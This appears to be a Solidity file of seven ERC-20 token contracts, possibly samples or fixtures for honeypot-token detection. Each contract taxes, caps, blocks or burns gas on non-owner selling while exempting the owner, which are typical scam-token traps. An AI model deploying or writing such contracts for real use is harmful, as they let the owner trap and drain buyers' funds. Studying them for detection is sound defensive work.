// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "zoo/base/Erc20.sol";
import {Traded} from "zoo/base/Traded.sol";
import {Owned} from "zoo/base/Owned.sol";

/// Keeps 2 percent of small sales, and 60 percent of one of a thousandth of the supply or more.
contract RisingTaxToken is Traded {
    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if (to == pair && !_isOwner(from, to)) {
            fee = amount * (amount >= totalSupply / 1000 ? 60 : 2) / 100;
        }
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, amount - fee);
    }
}

/// Honest: between wallets each whole token is written down, which costs gas.
contract PiecesToken is Traded {
    uint256 private constant GAS_OF_EACH = 10_000;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (from == pair || to == pair || _isOwner(from, to)) return;
        uint256 enough = gasleft();
        uint256 needed = amount / 1e18 * GAS_OF_EACH;
        while (enough - gasleft() < needed) {}
    }
}

/// Nothing passes between wallets, however little.
contract StuckToken is Traded {
    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(from == pair || to == pair || _isOwner(from, to), "stuck");
        _move(from, to, amount);
    }
}

/// Lets nobody but the owner sell more than a two hundredth of the supply at once.
contract SmallSalesToken is Traded {
    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && !_isOwner(from, to)) {
            require(amount <= totalSupply / 200, "sale too large");
        }
        _move(from, to, amount);
    }
}

/// Whoever has bought cannot sell more; who was only ever given tokens can.
contract BuyersBlockedToken is Traded {
    mapping(address => bool) private _bought;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair && !_isOwner(from, to)) _bought[to] = true;
        require(to != pair || !_bought[from], "not yet");
        _move(from, to, amount);
    }
}

/// Lets an address sell once in a block.
contract OneSaleToken is Traded {
    mapping(address => uint256) private _sold;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function _spend(address from, uint256 amount) internal override {
        require(from == owner || _sold[from] != block.number, "one sale a block");
        _sold[from] = block.number;
        super._spend(from, amount);
    }
}

/// Can be sold in its own pair only; every other pool takes it and lets nobody sell.
contract OnePoolToken is Traded {
    mapping(address => bool) public closed;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function close(address pool) external onlyOwner {
        closed[pool] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!closed[to] || _isOwner(from, to), "closed");
        _move(from, to, amount);
    }
}
